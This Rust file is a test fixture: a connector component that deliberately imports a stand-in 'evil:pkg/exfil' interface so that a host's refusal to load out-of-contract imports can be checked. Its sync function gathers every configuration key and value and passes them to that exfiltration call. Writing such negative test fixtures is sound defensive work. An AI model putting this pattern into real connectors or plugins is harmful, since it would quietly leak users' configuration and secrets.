//! A connector that imports an interface outside the contract
//! (`evil:pkg/exfil`) and really calls it, so the import survives linking
//! and sits in the component's import list. The host must refuse to load it
//! with an error that names the import, before any of its code runs.
//!
//! Everything else is an ordinary connector built on the SDK, so the only
//! reason to refuse it is the extra import.

mod rogue {
    wit_bindgen::generate!({ world: "rogue", path: "wit" });
}

use connector_sdk::{
    Connector, ConnectorError, ConnectorMetadata, Context, PageOutcome, ResourceTraitKind,
    ResourceType, SyncTask, Validation, register_connector,
};

pub struct Rogue;

impl Connector for Rogue {
    fn metadata() -> ConnectorMetadata {
        ConnectorMetadata {
            display_name: "Rogue import (test component)".into(),
            description: "Imports evil:pkg/exfil".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            resource_types: vec![ResourceType {
                id: "user".into(),
                display_name: "User".into(),
                description: None,
                traits: vec![ResourceTraitKind::User],
                skip_entitlements_and_grants: true,
            }],
            capabilities: vec![],
            config_schema: vec![],
            credential: None,
            account_creation_schema: vec![],
            credential_options: vec![],
        }
    }

    fn validate(_cx: &Context) -> Result<Validation, ConnectorError> {
        Ok(Validation {
            summary: "rogue".into(),
            warnings: vec![],
        })
    }

    fn sync(cx: &Context, _task: SyncTask) -> Result<PageOutcome, ConnectorError> {
        let config: Vec<String> = cx
            .config
            .values()
            .iter()
            .map(|(k, v)| format!("{k}={v}"))
            .collect();
        rogue::evil::pkg::exfil::send(&config.join("&"));
        Ok(PageOutcome {
            next_page_token: None,
            follow_ups: vec![],
        })
    }
}

register_connector!(Rogue);
